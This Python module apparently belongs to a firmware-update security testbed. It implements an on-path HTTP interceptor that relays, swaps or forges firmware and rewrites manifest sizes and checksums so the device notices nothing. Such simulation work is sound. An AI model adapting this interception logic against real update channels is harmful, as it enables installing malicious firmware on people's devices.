"""On-path interceptor between PCD and vendor server.

The adversary controls the PCD's HTTP traffic, so it rewrites whole
responses: when it swaps the firmware it also fixes the manifest's size and
checksum to match, leaving the PCD nothing to notice.
"""

import dataclasses
import logging
import socketserver
from urllib.parse import urlsplit

import httpx

from trackerfw.channel.manifest import UpdateManifest
from trackerfw.channel.node import LoopbackHTTPServer, QuietHTTPRequestHandler, ServiceNode
from trackerfw.channel.server import FIRMWARE_PATH, MANIFEST_PATH
from trackerfw.errors import UpstreamUnavailableError

logger = logging.getLogger(__name__)


@dataclasses.dataclass(frozen=True)
class Passthrough:
    """Relay every response verbatim."""


@dataclasses.dataclass(frozen=True)
class SwapFirmware:
    """Relay the manifest, but serve ``firmware`` in place of the official file."""

    firmware: bytes


@dataclasses.dataclass(frozen=True)
class FakeAvailability:
    """Advertise ``firmware`` regardless of what the vendor offers."""

    manifest: UpdateManifest
    firmware: bytes


Attack = Passthrough | SwapFirmware | FakeAvailability


@dataclasses.dataclass(frozen=True)
class _Upstream:
    status: int
    content_type: str
    body: bytes


class _InterceptorHandler(QuietHTTPRequestHandler):
    server: "_InterceptorHTTPServer"

    def do_GET(self) -> None:
        node = self.server.node
        path = urlsplit(self.path).path
        try:
            status, content_type, body = node.respond(path)
        except UpstreamUnavailableError as e:
            logger.warning(f"Upstream unavailable for {path}: {e}")
            self.send_body(502, "text/plain", b"upstream unavailable\n")
            return
        self.send_body(status, content_type, body)


class _InterceptorHTTPServer(LoopbackHTTPServer):
    def __init__(self, address: tuple[str, int], node: "Interceptor"):
        self.node = node
        super().__init__(address, _InterceptorHandler)


class Interceptor(ServiceNode):
    """HTTP node impersonating the vendor server towards the PCD."""

    name = "interceptor"

    def __init__(
        self,
        upstream_url: str,
        attack: Attack,
        host: str = "127.0.0.1",
        port: int = 0,
        timeout: float = 5.0,
    ):
        super().__init__(host, port)
        self.upstream_url = upstream_url.rstrip("/")
        self.attack = attack
        self.timeout = timeout

    def _make_server(self) -> socketserver.TCPServer:
        return _InterceptorHTTPServer((self.host, self.port), self)

    def _fetch(self, path: str) -> _Upstream:
        try:
            with httpx.Client(base_url=self.upstream_url, timeout=self.timeout) as client:
                response = client.get(path)
        except httpx.HTTPError as e:
            raise UpstreamUnavailableError(str(e)) from e
        return _Upstream(
            response.status_code,
            response.headers.get("content-type", "application/octet-stream"),
            response.content,
        )

    def respond(self, path: str) -> tuple[int, str, bytes]:
        """Response (status, content type, body) the PCD receives for ``path``."""
        attack = self.attack
        match attack:
            case FakeAvailability(manifest, firmware):
                if path == MANIFEST_PATH:
                    forged = manifest.describing(firmware)
                    if not forged.url:
                        forged = forged.model_copy(update={"url": self.url + FIRMWARE_PATH})
                    logger.info(f"Faking availability of version {forged.firmware_version}")
                    return 200, "application/json", forged.to_json()
                if path == FIRMWARE_PATH:
                    logger.info(f"Serving {len(firmware)}-byte forged firmware")
                    return 200, "application/octet-stream", firmware
                return 404, "text/plain", b"not found\n"
            case SwapFirmware(firmware) if path == FIRMWARE_PATH:
                logger.info(f"Swapping in {len(firmware)}-byte firmware")
                return 200, "application/octet-stream", firmware
            case SwapFirmware(firmware) if path == MANIFEST_PATH:
                upstream = self._fetch(path)
                if upstream.status != 200:
                    return upstream.status, upstream.content_type, upstream.body
                try:
                    manifest = UpdateManifest.from_json(upstream.body)
                except ValueError as e:
                    logger.warning(f"Relaying unparseable upstream manifest: {e}")
                    return upstream.status, upstream.content_type, upstream.body
                if not manifest.available:
                    return upstream.status, upstream.content_type, upstream.body
                logger.info(f"Rewriting manifest v{manifest.firmware_version} for swapped firmware")
                return 200, "application/json", manifest.describing(firmware).to_json()
        upstream = self._fetch(path)
        return upstream.status, upstream.content_type, upstream.body


def interceptor_run(
    upstream_url: str,
    attack: Attack,
    host: str = "127.0.0.1",
    port: int = 0,
    timeout: float = 5.0,
) -> Interceptor:
    """Start an interceptor relaying to ``upstream_url`` with the given attack."""
    return Interceptor(upstream_url, attack, host, port, timeout).start()
